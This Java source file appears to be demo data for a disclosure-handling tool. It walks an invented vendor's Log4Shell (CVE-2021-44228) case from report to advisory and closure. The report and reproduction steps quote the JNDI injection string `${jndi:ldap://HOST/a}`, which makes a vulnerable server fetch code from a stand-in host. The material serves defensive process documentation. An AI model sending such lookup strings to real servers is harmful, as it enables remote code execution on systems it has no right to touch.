package org.probity.demo.story;

import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import org.probity.disclosure.Advisories;
import org.probity.disclosure.Edition;
import org.probity.handling.Cases;
import org.probity.handling.HandlingEvent.Closure;
import org.probity.handling.HandlingEvent.Duty;
import org.probity.handling.HandlingEvent.Justification;
import org.probity.handling.HandlingEvent.Strategy;
import org.probity.handling.domain.CaseCommand;
import org.probity.handling.domain.ItemCommand;
import org.probity.receipt.Channel;
import org.probity.receipt.Intake;
import org.probity.receipt.NewReport;
import org.probity.receipt.Reports;
import org.probity.receipt.Screening;
import org.springframework.context.annotation.Lazy;
import org.springframework.stereotype.Component;

/**
 * The finished case, a real flaw: CVE-2021-44228 in log4j-core 2.0-beta9 to 2.14.1, told to its maintainers on 2021-11-24,
 * public on 2021-12-10, fixed in 2.15.0, as the invented vendor would have handled it.
 */
@Component
@Lazy
class Log4ShellCase {
    private static final String VECTOR = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H";
    private static final String CWES = "CWE-502, CWE-400, CWE-20, CWE-917";

    private final Teller teller;
    private final Intake intake;
    private final Screening screening;
    private final Reports reports;
    private final Cases cases;
    private final Advisories advisories;
    private final Catalogue catalogue;

    Log4ShellCase(
            Teller teller,
            Intake intake,
            Screening screening,
            Reports reports,
            Cases cases,
            Advisories advisories,
            Catalogue catalogue) {
        this.teller = teller;
        this.intake = intake;
        this.screening = screening;
        this.reports = reports;
        this.cases = cases;
        this.advisories = advisories;
        this.catalogue = catalogue;
    }

    void tell() {
        String report = receipt();
        String id = open(report);
        verification(id);
        remediation(id);
        release(id);
        postRelease(id);
    }

    private String receipt() {
        teller.at("2021-12-10T09:12:00Z");
        NewReport plain = NewReport.of(Channel.FORM, """
                Your Edge Gateway runs a Java management service that logs the User-Agent header with log4j.

                Sending `${jndi:ldap://…/a}` as the header makes the gateway fetch and run code from that server. Seen with 4.2.1.""");
        String number = intake.submit(
                        new NewReport(
                                plain.channel(),
                                "Remote code execution through a logged header",
                                plain.description(),
                                "edge-gateway",
                                "",
                                "4.2.1",
                                "dana.kerr@research.example",
                                "Dana Kerr",
                                true,
                                null,
                                true,
                                "The logging library's project page and many news sites",
                                true,
                                "Mass scanning is reported since this morning",
                                "",
                                "CVE-2021-44228",
                                List.of(),
                                null,
                                null),
                        null)
                .number();
        teller.at("2021-12-10T09:40:00Z");
        screening.acknowledge(
                teller.as("analyst"),
                number,
                version(number),
                "Thank you. A person has read this; we are checking every product now and write again today.");
        teller.at("2021-12-10T09:44:00Z");
        screening.screen(teller.as("analyst"), number, version(number));
        return number;
    }

    private long version(String number) {
        return reports.find(teller.as("analyst"), number).orElseThrow().version();
    }

    private String open(String report) {
        teller.at("2021-12-10T10:02:00Z");
        String id = cases.open(
                teller.as("analyst"),
                report,
                version(report),
                "Code execution through JNDI lookups in log4j-core",
                List.of("edge-gateway", "core-gateway", "branch-box", "cloud-console"),
                "log4j is in the bills of materials of Edge and Core; the others are asked to be sure.");
        teller.act("analyst", id, new CaseCommand.NoteIdentifier("CVE-2021-44228"));
        teller.act("analyst", id, new CaseCommand.Describe("Code execution through JNDI lookups in log4j-core", """
                Edge Gateway and Core Gateway log parts of requests with Apache log4j-core. Versions 2.0-beta9 to 2.14.1 of that \
                library resolve JNDI lookups in logged text, so a remote attacker without an account can run code on the gateway by \
                sending a crafted header.

                **Update now.** Attacks are under way."""));
        teller.at("2021-12-10T10:05:00Z");
        teller.act(
                "lead",
                id,
                new CaseCommand.NotePublic(
                        "Public since the library's own announcement", Instant.parse("2021-12-10T00:00:00Z")));
        teller.at("2021-12-10T14:30:00Z");
        teller.act(
                "lead",
                id,
                new CaseCommand.NoteAttacks(
                        "A customer's border logs show the lookup string against port 8443 since 13:50 UTC",
                        "confirmed",
                        Instant.parse("2021-12-10T14:20:00Z")));
        return id;
    }

    private void verification(String id) {
        teller.at("2021-12-10T10:31:00Z");
        for (String product : List.of("edge-gateway", "core-gateway")) {
            teller.work("engineer", id, product, new ItemCommand.Accept());
        }
        teller.at("2021-12-10T10:50:00Z");
        for (String product : List.of("branch-box", "cloud-console")) {
            teller.work("tester", id, product, new ItemCommand.Accept());
        }
        teller.at("2021-12-10T12:15:00Z");
        affected(
                id,
                "edge-gateway",
                "edge-gateway@4.2.1",
                "Edge Gateway 4.2.1, factory settings, management on port 8443",
                "2.14.1");
        teller.at("2021-12-10T13:05:00Z");
        affected(
                id,
                "core-gateway",
                "core-gateway@7.1.0",
                "Core Gateway 7.1.0 on two nodes, management on port 8443",
                "2.13.3");
        teller.at("2021-12-10T15:10:00Z");
        teller.work(
                "tester",
                id,
                "branch-box",
                new ItemCommand.ProposeClosure(
                        Closure.NOT_AFFECTED,
                        Justification.COMPONENT_NOT_PRESENT,
                        "Branch Box holds no Java at all. The bills of materials of 2.3.4 and 3.0.0 were searched, and the images were unpacked and searched for log4j classes: none.",
                        "2.3.4 and 3.0.0",
                        null));
        teller.work(
                "tester",
                id,
                "cloud-console",
                new ItemCommand.ProposeClosure(
                        Closure.NOT_AFFECTED,
                        Justification.VULNERABLE_CODE_NOT_PRESENT,
                        "The console holds log4j-api only, bridged to another logger; the class with the JNDI lookup is in log4j-core, which is not deployed. Checked on every node after attacks became known.",
                        "deployments with log4j-api and without log4j-core",
                        null));
        teller.at("2021-12-10T15:40:00Z");
        teller.work("lead", id, "branch-box", new ItemCommand.AgreeClosure());
        teller.work("lead", id, "cloud-console", new ItemCommand.AgreeClosure());
    }

    private void affected(String id, String product, String release, String environment, String library) {
        teller.work(
                "engineer",
                id,
                product,
                new ItemCommand.Confirm(
                        "1. Start a listener on a host that the gateway reaches.\n2. Send any request with `User-Agent: ${jndi:ldap://HOST/a}`.\n3. The gateway connects to the listener.",
                        environment));
        teller.work(
                "engineer",
                id,
                product,
                new ItemCommand.Analyse(
                        "log4j-core resolves lookups inside logged messages; the management service logs a request header.",
                        CWES,
                        List.of(release),
                        "pkg:maven/org.apache.logging.log4j/log4j-core@" + library));
        teller.work(
                "engineer",
                id,
                product,
                new ItemCommand.Rate(
                        VECTOR,
                        "Reachable from the network without account or help; code runs with the rights of the management service and reaches what it manages."));
    }

    private void remediation(String id) {
        teller.at("2021-12-10T16:05:00Z");
        for (String product : List.of("edge-gateway", "core-gateway")) {
            teller.work(
                    "lead",
                    id,
                    product,
                    new ItemCommand.Decide(
                            Strategy.REMOVE,
                            "Attacks confirmed, every installation exposed, fix in the library is there: well before the policy's date.",
                            LocalDate.parse("2021-12-13")));
        }
        teller.at("2021-12-11T11:20:00Z");
        teller.work(
                "engineer",
                id,
                "edge-gateway",
                new ItemCommand.RecordFix(
                        "4.2.2",
                        "edge-gateway-4.2.2.img",
                        "5f0ee2e91b2a3b3c0a8f3f6f8f0c7bd4c0b4f6d1d9f6f2d7c8a1e4b5a6978812",
                        "log4j-core 2.15.0; lookups off in the logging configuration"));
        teller.work(
                "engineer",
                id,
                "core-gateway",
                new ItemCommand.RecordFix(
                        "7.1.1",
                        "core-gateway-7.1.1.img",
                        "c1b9d7e2f4a86035719ccf1a2e0d3b4c5a6978f10e2d3c4b5a69788796a5b4c3",
                        "log4j-core 2.15.0; lookups off in the logging configuration"));
        teller.at("2021-12-11T15:45:00Z");
        teller.work(
                "tester",
                id,
                "edge-gateway",
                new ItemCommand.RecordTest(
                        true,
                        "Original proof and eleven variants (nested lookups, other protocols, environment lookups) no longer connect; regression suite 1,204 of 1,204."));
        teller.work(
                "tester",
                id,
                "core-gateway",
                new ItemCommand.RecordTest(
                        true,
                        "Original proof and eleven variants no longer connect, on both nodes and during failover; regression suite 2,318 of 2,318."));
    }

    private void release(String id) {
        teller.at("2021-12-11T17:00:00Z");
        advisories.draft(teller.as("analyst"), id);
        teller.at("2021-12-11T17:25:00Z");
        Advisories.Draft draft = advisories.ofCase(teller.as("analyst"), id).orElseThrow();
        Edition begun = java.util.Objects.requireNonNull(draft.state().edition());
        advisories.edit(
                teller.as("analyst"),
                id,
                draft.version(),
                new Edition(
                        "Edge Gateway and Core Gateway: code execution through logged requests (Log4Shell)",
                        begun.summary(),
                        "An attacker who reaches the management port runs code on the gateway and from there reaches every network behind it.",
                        "Until the update: close port 8443 towards untrusted networks. Removing the class JndiLookup from the library helps too; support sends the steps.",
                        begun.credits(),
                        List.of(
                                new Edition.Reference(
                                        "The vulnerability at cve.org",
                                        "https://www.cve.org/CVERecord?id=CVE-2021-44228"),
                                new Edition.Reference(
                                        "Security page of the library", "https://logging.apache.org/security.html")),
                        begun.facts()),
                true);
        teller.at("2021-12-11T19:10:00Z");
        draft = advisories.ofCase(teller.as("engineer"), id).orElseThrow();
        advisories.agree(teller.as("engineer"), id, draft.version(), draft.digest());
        LocalDate day = LocalDate.parse("2021-12-12");
        catalogue.release("edge-gateway", "4.2.2", day, Catalogue.SUPPORTED);
        catalogue.release("core-gateway", "7.1.1", day, Catalogue.SUPPORTED);
        draft = advisories.ofCase(teller.as("lead"), id).orElseThrow();
        advisories.release(teller.as("lead"), id, draft.version(), "First publication.", true, null);
    }

    private void postRelease(String id) {
        teller.at("2022-01-20T10:00:00Z");
        teller.act(
                "analyst",
                id,
                new CaseCommand.DoDuty(
                        Duty.WATCH,
                        "Four weeks watched. 93 % of registered gateways run the fixed release. The follow-up flaw CVE-2021-45046 got a case of its own."));
        teller.act(
                "analyst", id, new CaseCommand.DoDuty(Duty.CREDIT, "Dana Kerr is named in the advisory, as wished."));
        teller.at("2022-01-21T09:30:00Z");
        teller.act(
                "analyst",
                id,
                new CaseCommand.DoDuty(
                        Duty.LESSONS,
                        "Handed to development: keep an inventory of every library in every release, and log no request text unescaped."));
        teller.at("2022-02-02T14:00:00Z");
        teller.act(
                "analyst",
                id,
                new CaseCommand.DoDuty(
                        Duty.REVIEW,
                        "Walked through all steps against the policy: acknowledged in 28 minutes, released in under two days, two people at each negative answer."));
        teller.at("2022-02-03T09:00:00Z");
        teller.act(
                "lead",
                id,
                new CaseCommand.Close(
                        "The fix holds: no sign of exploitation on updated gateways in seven weeks, all variants tried in vain."));
    }
}
